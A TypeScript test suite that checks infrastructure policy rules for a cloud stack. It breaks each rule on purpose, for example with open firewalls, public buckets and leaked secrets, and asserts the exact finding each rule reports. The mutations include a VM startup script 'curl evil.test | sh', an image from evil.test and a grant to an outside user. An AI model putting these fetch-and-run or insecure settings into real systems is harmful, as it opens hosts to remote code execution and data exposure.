import { plan } from "../../infra/plan";
import { evaluate, type Resource } from "../../policies/evaluate";
import { resourcesOf } from "../../policies/judge-plan";
import { policiesFor, rules } from "../../policies/pack";
import type { Props } from "../../policies/rule";
import { deployed } from "./mutants/mutant";

/** A deployed stack in which something is being broken. */
class Draft {
  constructor(readonly resources: Resource[]) {}

  /** Changes the inputs of a resource, which is named as in the plan. */
  change(type: string, name: string | RegExp, change: (props: Props, resource: Resource) => void): void {
    const at = this.resources.findIndex(
      (each) =>
        each.type.startsWith(`gcp:${type}:`) &&
        (typeof name === "string" ? each.name === name : name.test(each.name)),
    );
    const copy = structuredClone(this.resources[at]!);
    change(copy.props, copy);
    this.resources[at] = copy;
  }

  /** Changes a text in a file of the configuration. */
  text(file: RegExp, from: string | RegExp, to: string): void {
    this.change("storage/bucketObject", file, (props) => {
      const text = props.content as string;
      props.content = text.replace(from, to);
      if (props.content === text) throw new Error(`${file} has no ${from}`);
    });
  }

  add(type: string, name: string, props: Props, ...dependsOn: string[]): void {
    this.resources.push({
      type: `gcp:${type}`,
      name,
      props,
      dependsOn: dependsOn.map((urn) => `gcp:${urn}`),
    });
  }

  drop(type: string, name: string): void {
    const at = this.resources.findIndex((each) => each.type.startsWith(`gcp:${type}:`) && each.name === name);
    this.resources.splice(at, 1);
  }

  container(service: string, change: (container: Props) => void): void {
    this.change("cloudrunv2/service", service, ({ template }) => change(template.containers[0]));
  }
}

const GUARD = /^gateway\/\w+\/guard\.json$/;
const LITELLM = /^gateway\/\w+\/config\.yaml$/;
const COMPOSE = /compose\.yaml$/;
const SQL = "sql/databaseInstance";
const REDIS = "redis/instance";
const BUCKET = "storage/bucket";
const VM = "compute/instance";
const AGENT = "serviceaccount/account:Account::agent";
const EMAIL = "serviceAccount:tollgate-agent@tollgate-prod.iam.gserviceaccount.com";

type Says = [resource: string | undefined, finding: string | RegExp][];

/** Each rule of the pack: what breaks it in a deployed stack of prod, and all that it says to that. */
const BROKEN: Record<string, [break_: (draft: Draft) => void, says: Says, deployment?: "gce-vm"]> = {
  "budget-share-of-price": [
    (d) => d.text(GUARD, '"budget_nanos": 8000000000', '"budget_nanos": 48000000000'),
    [["gateway/HASH/guard.json", "tier_1's budget $48.00 is over 20 % of its price $49.00"]],
  ],
  "fleet-and-daily-budgets": [
    (d) => d.text(GUARD, '"daily_nanos": 2000000000', '"daily_nanos": 9000000000'),
    [
      [
        "gateway/HASH/guard.json",
        "tier_1's daily budget $9.00 is not between a thirtieth and half of its monthly budget $8.00",
      ],
    ],
  ],
  "session-budget": [
    (d) => d.text(GUARD, '"budget_nanos": 500000000', '"budget_nanos": 5000000000'),
    [["gateway/HASH/guard.json", "The session budget $5.00 is over $0.50"]],
  ],
  "session-rate": [
    (d) => d.text(GUARD, '"calls": 100', '"calls": 1000'),
    [["gateway/HASH/guard.json", "1000 calls a session are over 100"]],
  ],
  "thresholds-complete": [
    (d) => d.text(GUARD, /"percent": 95/, '"percent": 96'),
    [["gateway/HASH/guard.json", "The thresholds are 50 log, 80 notify, 96 degrade, 100 block"]],
  ],
  "models-priced": [
    (d) => d.text(GUARD, /"input_nanos": \d+/, '"input_nanos": 0'),
    [["gateway/HASH/guard.json", "claude-opus-5-5 has input_nanos 0"]],
  ],
  "degrade-cheaper": [
    (d) =>
      d.text(GUARD, /"economy": \{\s*"variants": \[\s*"[^"]+"/, '"economy": {"variants": ["claude-opus-5-5"'),
    [
      [
        "gateway/HASH/guard.json",
        "claude-opus-5-5 of the degrade route economy is not cheaper than gemini-3.8-flash",
      ],
      [
        "gateway/HASH/guard.json",
        "claude-opus-5-5 of the degrade route economy is not cheaper than claude-sonnet-5-5",
      ],
      [
        "gateway/HASH/guard.json",
        "claude-opus-5-5 of the degrade route economy is not cheaper than claude-opus-5-5",
      ],
    ],
  ],
  "fallback-elsewhere": [
    (d) => d.text(GUARD, /("simple": \{[^}]*"fallbacks": \[)[^\]]*/, "$1"),
    [["gateway/HASH/guard.json", "The route simple has no fallback at another provider"]],
  ],
  "fallback-lasting": [
    (d) => d.text(GUARD, /("simple": \{[^}]*"fallbacks": \[)[^\]]*/, '$1"none"'),
    [["gateway/HASH/guard.json", "The route simple falls back to nothing that lasts: none is not known"]],
  ],
  "guard-on": [
    (d) => d.text(LITELLM, /callbacks:/, "callbackz:"),
    [["gateway/HASH/config.yaml", "litellm_settings.callbacks [] does not name tollgate_guard.plugin.guard"]],
  ],
  "guard-deployed": [
    (d) =>
      d.container(
        "gateway",
        (each) => (each.envs = each.envs.filter(({ name }: Props) => name !== "TOLLGATE_LEDGER_URL")),
      ),
    [[undefined, "The gateway has no TOLLGATE_LEDGER_URL"]],
  ],
  "providers-through-gateway": [
    (d) =>
      d.add("projects/iAMMember:IAMMember", "x", { role: "roles/aiplatform.user", member: EMAIL }, AGENT),
    [
      [
        undefined,
        "x grants roles/aiplatform.user to serviceAccount:tollgate-agent@tollgate-prod.iam.gserviceaccount.com",
      ],
    ],
  ],
  "provider-keys-at-gateway": [
    (d) =>
      d.add(
        "secretmanager/secretIamMember:SecretIamMember",
        "x",
        { secretId: "tollgate-anthropic-api-key", role: "roles/secretmanager.secretAccessor", member: EMAIL },
        AGENT,
        "secretmanager/secret:Secret::anthropic-api-key",
      ),
    [
      [
        undefined,
        "x lets serviceAccount:tollgate-agent@tollgate-prod.iam.gserviceaccount.com read tollgate-anthropic-api-key",
      ],
    ],
  ],
  "project-roles": [
    (d) => d.add("projects/iAMMember:IAMMember", "x", { role: "roles/storage.admin", member: EMAIL }, AGENT),
    [
      [
        undefined,
        "x grants roles/storage.admin on everything to serviceAccount:tollgate-agent@tollgate-prod.iam.gserviceaccount.com",
      ],
    ],
  ],
  "no-powerful-roles": [
    (d) =>
      d.add(
        "storage/bucketIAMMember:BucketIAMMember",
        "x",
        { bucket: "tollgate-prod-config", role: "roles/storage.admin", member: EMAIL },
        AGENT,
      ),
    [
      [
        undefined,
        "x grants roles/storage.admin to serviceAccount:tollgate-agent@tollgate-prod.iam.gserviceaccount.com",
      ],
    ],
  ],
  "own-members": [
    (d) =>
      d.add("storage/bucketIAMMember:BucketIAMMember", "x", {
        bucket: "tollgate-prod-config",
        role: "roles/storage.objectViewer",
        member: "user:mallory@gmail.com",
      }),
    [[undefined, "x grants roles/storage.objectViewer to user:mallory@gmail.com, who is not of the stack"]],
  ],
  "custom-roles": [
    (d) =>
      d.add("projects/iAMCustomRole:IAMCustomRole", "x", {
        roleId: "x",
        permissions: ["secretmanager.versions.access"],
      }),
    [[undefined, "x includes secretmanager.versions.access"]],
  ],
  "own-account": [
    (d) =>
      d.change("cloudrunv2/service", "agent", ({ template }, resource) => {
        template.serviceAccount = "default@x";
        resource.dependsOn = [];
      }),
    [[undefined, "tollgate-agent runs as default"]],
  ],
  "secrets-one-by-one": [
    (d) =>
      d.add(
        "projects/iAMMember:IAMMember",
        "x",
        { role: "roles/secretmanager.secretAccessor", member: EMAIL },
        AGENT,
      ),
    [
      [
        undefined,
        "x lets serviceAccount:tollgate-agent@tollgate-prod.iam.gserviceaccount.com read every secret",
      ],
    ],
  ],
  "secrets-by-use": [
    (d) =>
      d.add(
        "secretmanager/secretIamMember:SecretIamMember",
        "x",
        { secretId: "tollgate-langfuse-salt", role: "roles/secretmanager.secretAccessor", member: EMAIL },
        AGENT,
        "secretmanager/secret:Secret::langfuse-salt",
      ),
    [[undefined, "x lets tollgate-agent read tollgate-langfuse-salt, which it does not use"]],
  ],
  "configuration-read-only": [
    (d) =>
      d.change(
        "storage/bucketIAMMember",
        "agent-config",
        (props) => (props.role = "roles/storage.objectAdmin"),
      ),
    [[undefined, "agent-config grants roles/storage.objectAdmin on tollgate-prod-config to tollgate-agent"]],
  ],
  "grants-by-design": [
    (d) =>
      d.add(
        "storage/bucketIAMMember:BucketIAMMember",
        "x",
        { bucket: "tollgate-prod-ledger-archive", role: "roles/storage.objectViewer", member: EMAIL },
        AGENT,
        "storage/bucket:Bucket::ledger-archive",
      ),
    [
      [
        undefined,
        "x grants roles/storage.objectViewer on bucket ledger-archive to serviceAccount:tollgate-agent@tollgate-prod.iam.gserviceaccount.com",
      ],
    ],
  ],
  "secrets-from-manager": [
    (d) => d.container("agent", ({ envs }) => envs.push({ name: "API_KEY", value: "sk-ant-1" })),
    [["agent", "Container agent has API_KEY as a plain value"]],
  ],
  "secrets-not-copied": [
    (d) => {
      d.change(
        "secretmanager/secretVersion",
        "agent-key",
        (props) => (props.secretData = "correct horse battery"),
      );
      d.change(BUCKET, "config", (props) => (props.labels.note = "correct horse battery"));
    },
    [[undefined, "labels.note of config holds the value of agent-key"]],
  ],
  "secrets-strong": [
    (d) => {
      const at = d.resources.findIndex(
        ({ type, name }) => type.startsWith("random:index/randomPassword") && name === "agent-key",
      );
      d.resources[at] = { ...d.resources[at]!, props: { length: 8 } };
    },
    [["agent-key", "length is 8, less than 24"]],
  ],
  "images-of-catalogue": [
    (d) => d.container("agent", (each) => (each.image = `evil.test/agent@sha256:${"a".repeat(64)}`)),
    [
      [
        "agent",
        "Container agent of tollgate-agent runs evil.test/agent@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
      ],
    ],
  ],
  "workloads-as-catalogued": [
    (d) => d.container("agent", (each) => (each.args = ["sleep"])),
    [["agent", 'Container agent of tollgate-agent has args ["sleep"], which are not the catalogue\'s']],
  ],
  "configuration-deployed": [
    (d) =>
      d.change("cloudrunv2/service", "gateway", ({ template }) => {
        for (const { gcs } of template.volumes) if (gcs) gcs.mountOptions = ["only-dir=gateway/000000000000"];
      }),
    [
      [undefined, "tollgate-gateway mounts gateway/HASH, and the stack deploys no such folder"],
      [undefined, "tollgate-gateway mounts gateway/HASH, and the stack deploys no such folder"],
    ],
  ],
  "configuration-addressed": [
    (d) => d.text(GUARD, "{", "{ "),
    [[undefined, "The files of gateway/HASH are not those that its name stands for"]],
  ],
  "configuration-as-rendered": [
    (d) => d.text(/^prometheus\/\w+\/rules\/spend\.yml$/, "alert: CostSpike", "alert: CostSpikes"),
    [[undefined, "prometheus/HASH/rules/spend.yml is not what the program renders"]],
  ],
  "compose-as-rendered": [
    (d) => d.text(COMPOSE, /image: \S*clickhouse\S*/, "image: evil/clickhouse"),
    [
      [
        "machine/HASH/compose/compose.yaml",
        'machine/HASH/compose/compose.yaml: services.clickhouse.image is "evil/clickhouse", and rendered "clickhouse/clickhouse-server"',
      ],
    ],
    "gce-vm",
  ],
  "machines-as-rendered": [
    (d) => d.change(VM, "machine", ({ metadata }) => (metadata["startup-script"] = "curl evil.test | sh")),
    [["machine", "metadata.startup-script is not one of the machine's"]],
    "gce-vm",
  ],
  "schedules-as-catalogued": [
    (d) => d.change("cloudscheduler/job", "ledger-archive", (props) => (props.schedule = "* * * * *")),
    [["ledger-archive", "schedule is * * * * *, and the catalogue's is 30 3 * * *"]],
  ],
  "gateway-as-rendered": [
    (d) => d.text(GUARD, '"budget_nanos": 8000000000', '"budget_nanos": 7000000000'),
    [["gateway/HASH/guard.json", "tiers.tier_1.budget_nanos is 7000000000, and rendered 8000000000"]],
  ],
  "resources-as-designed": [
    (d) => d.add("container/cluster:Cluster", "x", {}),
    [["x", "The program makes no gcp:container/cluster:Cluster"]],
  ],
  "stack-complete": [(d) => d.drop("cloudrunv2/service", "loki"), [[undefined, "Nothing runs loki"]]],
  "database-private": [
    (d) => d.change(SQL, "postgres", ({ settings }) => (settings.ipConfiguration.ipv4Enabled = true)),
    [["postgres", "ipConfiguration.ipv4Enabled is true"]],
  ],
  "database-encrypted": [
    (d) =>
      d.change(
        SQL,
        "postgres",
        ({ settings }) => (settings.ipConfiguration.sslMode = "ALLOW_UNENCRYPTED_AND_ENCRYPTED"),
      ),
    [["postgres", "ipConfiguration.sslMode is ALLOW_UNENCRYPTED_AND_ENCRYPTED"]],
  ],
  "database-backups": [
    (d) => d.change(SQL, "postgres", ({ settings }) => (settings.backupConfiguration.enabled = false)),
    [["postgres", "backupConfiguration.enabled is false"]],
  ],
  "database-settings": [
    (d) =>
      d.change(
        SQL,
        "postgres",
        ({ settings }) => (settings.databaseFlags = [{ name: "fsync", value: "off" }]),
      ),
    [["postgres", "settings.databaseFlags sets fsync to off"]],
  ],
  "database-dedicated": [
    (d) => d.change(SQL, "postgres", ({ settings }) => (settings.tier = "db-f1-micro")),
    [["postgres", "settings.tier is db-f1-micro, which shares its core"]],
  ],
  "disk-snapshots": [
    (d) => d.drop("compute/diskResourcePolicyAttachment", "clickhouse-snapshots"),
    [[undefined, "The stack has 1 data disks and 0 of them have a snapshot schedule"]],
  ],
  "high-availability": [
    (d) => d.change(REDIS, "redis", (props) => (props.tier = "BASIC")),
    [["redis", "tier is BASIC"]],
  ],
  "redis-authenticated": [
    (d) => d.change(REDIS, "redis", (props) => (props.authEnabled = false)),
    [["redis", "authEnabled is false"]],
  ],
  "redis-keeps-queue": [
    (d) => d.change(REDIS, "redis", ({ redisConfigs }) => (redisConfigs["maxmemory-policy"] = "allkeys-lru")),
    [[undefined, "redis has maxmemory-policy allkeys-lru, and no other Redis keeps a queue"]],
  ],
  "cache-expires": [
    (d) => d.text(LITELLM, /ttl: \d+/, "ttl: 9999999"),
    [[undefined, "gateway/HASH/config.yaml: litellm_settings.cache_params.ttl is 9999999, not 900 or less"]],
  ],
  "vm-private": [
    (d) => d.change(VM, "clickhouse", ({ networkInterfaces }) => (networkInterfaces[0].accessConfigs = [{}])),
    [["clickhouse", "networkInterfaces[0] has a public address"]],
  ],
  "vm-hardened": [
    (d) => d.change(VM, "clickhouse", ({ metadata }) => (metadata["serial-port-enable"] = "true")),
    [["clickhouse", "metadata.serial-port-enable is on"]],
  ],
  "containers-confined": [
    (d) => d.text(COMPOSE, /( +)image: (\S*clickhouse\S*)/, "$1privileged: true\n$1image: $2"),
    [["machine/HASH/compose/compose.yaml", "Container clickhouse runs with privileged"]],
    "gce-vm",
  ],
  "network-private": [
    (d) => d.change("compute/subnetwork", "network", (props) => (props.ipv6AccessType = "EXTERNAL")),
    [["network", "ipv6AccessType is EXTERNAL"]],
  ],
  "ingress-internal": [
    (d) => d.change("cloudrunv2/service", "loki", (props) => (props.ingress = "INGRESS_TRAFFIC_ALL")),
    [["loki", "tollgate-loki has ingress INGRESS_TRAFFIC_ALL and does not authenticate its callers"]],
  ],
  "firewall-closed": [
    (d) =>
      d.change("compute/firewall", "network-internal", (props) => {
        props.sourceRanges = ["0.0.0.0/0"];
        delete props.sourceTags;
        delete props.sourceServiceAccounts;
      }),
    [["network-internal", "It admits 0.0.0.0/0, which is not a private range"]],
  ],
  "no-all-users": [
    (d) =>
      d.add("cloudrunv2/serviceIamMember:ServiceIamMember", "x", {
        name: "tollgate-loki",
        role: "roles/run.invoker",
        member: "allUsers",
      }),
    [[undefined, "x grants roles/run.invoker to allUsers"]],
  ],
  "bucket-private": [
    (d) => d.change(BUCKET, "loki", (props) => (props.publicAccessPrevention = "inherited")),
    [["loki", "publicAccessPrevention is inherited"]],
  ],
  "bucket-recoverable": [
    (d) => d.change(BUCKET, "loki", (props) => (props.softDeletePolicy.retentionDurationSeconds = 0)),
    [["loki", "softDeletePolicy.retentionDurationSeconds is 0"]],
  ],
  "bucket-kept": [
    (d) =>
      d.change(
        BUCKET,
        "ledger-archive",
        (props) => (props.lifecycleRules = [{ action: { type: "Delete" }, condition: { age: 30 } }]),
      ),
    [["ledger-archive", "Objects are deleted after 30 days and must be kept forever"]],
  ],
  "images-by-digest": [
    (d) => d.container("loki", (each) => (each.image = "grafana/loki:3")),
    [["loki", "Container loki runs grafana/loki:3"]],
  ],
  "secrets-pinned": [
    (d) =>
      d.container("agent", ({ envs }) => {
        const secret = envs.find((each: Props) => each.valueSource);
        secret.valueSource.secretKeyRef.version = "latest";
      }),
    [["agent", "LANGFUSE_PUBLIC_KEY reads version latest"]],
  ],
  "limits-set": [
    (d) => d.container("agent", (each) => delete each.resources.limits.memory),
    [["agent", "Container agent has no limit of memory"]],
  ],
  "documented-limits": [
    (d) => d.container("agent", (each) => (each.resources.limits.memory = "64Gi")),
    [
      [
        "agent",
        "CPU to memory: agent has 0.9 vCPU for 65536 MiB; Google documents: more than 512 MiB need 0.5 vCPU, more than 1 GiB 1, more than 4 GiB 2, more than 8 GiB 4, more than 16 GiB 6, more than 24 GiB 8: a container and an instance",
      ],
      [
        "agent",
        "CPU to memory: the instance has 1 vCPU for 65664 MiB; Google documents: more than 512 MiB need 0.5 vCPU, more than 1 GiB 1, more than 4 GiB 2, more than 8 GiB 4, more than 16 GiB 6, more than 24 GiB 8: a container and an instance",
      ],
    ],
  ],
  "scaling-bounded": [
    (d) =>
      d.change("cloudrunv2/service", "agent", ({ template }) => delete template.scaling.maxInstanceCount),
    [["agent", "template.scaling.maxInstanceCount is not set: it must be from 1 to 20"]],
  ],
  "singletons-awake": [
    (d) => d.change("cloudrunv2/service", "loki", ({ template }) => (template.scaling.minInstanceCount = 0)),
    [["loki", "template.scaling has 0 to 1 instances, not one"]],
  ],
  "deletion-protection": [
    (d) => d.change(SQL, "postgres", (props) => (props.deletionProtection = false)),
    [["postgres", "deletionProtection is false"]],
  ],
  "changes-arrive": [
    (d) => d.change("cloudrunv2/service", "gateway", (_, each) => (each.ignoreChanges = ["template"])),
    [["gateway", "The option ignoreChanges has template"]],
  ],
  "secrets-kept": [
    (d) => d.change("secretmanager/secretVersion", "agent-key", (props) => (props.deletionPolicy = "DELETE")),
    [["agent-key", "deletionPolicy is DELETE"]],
  ],
  labels: [
    (d) => d.change(BUCKET, "loki", ({ labels }) => delete labels.owner),
    [["loki", "The labels lack owner"]],
  ],
  "logs-delivered": [
    (d) => d.change("logging/projectSink", "logs", (props) => (props.disabled = true)),
    [["logs", "disabled is true"]],
  ],
  "retention-metrics": [
    (d) =>
      d.change("cloudrunv2/service", "watch", ({ template }) => {
        for (const each of template.containers)
          each.args = (each.args ?? []).map((arg: string) => arg?.replace(/(retention\.time=)\w+/, "$12d"));
      }),
    [["watch", "storage.tsdb.retention.time is 2d, not 15d"]],
  ],
  "retention-logs": [
    (d) => d.text(/^loki\/\w+\/.*\.ya?ml$/, /retention_period: \w+/, "retention_period: 1h"),
    [["loki/HASH/loki.yaml", "limits_config.retention_period is 1h, not 168h"]],
  ],
  "retention-traces": [
    (d) =>
      d.change(VM, "clickhouse", ({ metadata }) => {
        for (const key of Object.keys(metadata))
          metadata[key] = String(metadata[key]).replace(
            /(TRACE_RETENTION_DAYS["']?\s*[:=]\s*["']?)90/g,
            "$17",
          );
      }),
    [["clickhouse", "A table keeps its rows 7 days, not 90"]],
  ],
  "cost-ceiling": [
    (d) => d.change(SQL, "postgres", ({ settings }) => (settings.tier = "db-custom-96-638976")),
    [
      [
        undefined,
        /^The infrastructure is expected to cost \$1\d,\d{3}\.\d\d a month \(\$1\d,\d{3}\.\d\d to \$1\d,\d{3}\.\d\d\), over the ceiling of \$570\.00\. See where it goes/,
      ],
    ],
  ],
  "worst-case-ceiling": [
    (d) =>
      d.change("cloudrunv2/service", "agent", ({ template }) => (template.scaling.maxInstanceCount = 100)),
    [
      [
        undefined,
        /^With every service at its maximum of instances all month the infrastructure would cost \$\d,\d{3}\.\d\d, over the ceiling of \$1,550\.00 \(agent \$\d,\d{3}\.\d\d, langfuse-web \$\d+\.\d\d, gateway \$\d+\.\d\d\)\. Lower/,
      ],
    ],
  ],
};

const stacks = new Map<string, Resource[]>();
beforeAll(async () => {
  for (const deployment of ["gce-vm", "cloud-run"])
    stacks.set(deployment, resourcesOf(await plan("prod", deployed("prod", deployment, "5"))));
}, 60_000);

/** What one rule says to a stack; hashes of folders left out. */
async function said(policy: string, resources: Resource[]): Promise<Says> {
  const found = await evaluate(
    policiesFor("prod").filter(({ name }) => name === policy),
    resources,
  );
  const plain = (text: string) => text.replaceAll(/\/[0-9a-f]{12}(?=\/|\b)/g, "/HASH");
  return found.map(({ resource, message }) => [resource && plain(resource), plain(message)]);
}

it("has a row for each rule of the pack", () => {
  expect(Object.keys(BROKEN)).toEqual(rules.map(({ name }) => name));
});

it.each(Object.entries(BROKEN))(
  "%s says exactly what is wrong, and where",
  async (policy, [break_, says, deployment = "cloud-run"]) => {
    const { remedy } = rules.find(({ name }) => name === policy)!;
    const base = stacks.get(deployment)!;
    expect(await said(policy, base)).toEqual([]);
    const draft = new Draft([...base]);
    break_(draft);
    const found = await said(policy, draft.resources);
    expect(found).toEqual(
      says.map(([resource, finding]) => [
        resource,
        typeof finding === "string" ? `${finding}. ${remedy}` : expect.stringMatching(finding),
      ]),
    );
  },
);

it("does not show a text that replaced a rendered one, which may be a secret", async () => {
  const draft = new Draft([...stacks.get("gce-vm")!]);
  draft.text(COMPOSE, /TOLLGATE_ENVIRONMENT: .*/, "TOLLGATE_ENVIRONMENT: correct-horse");
  const [[, message] = []] = await said("compose-as-rendered", draft.resources);
  expect(message).toMatch(/services\.\S+\.environment\.TOLLGATE_ENVIRONMENT is another text, and rendered /);
});
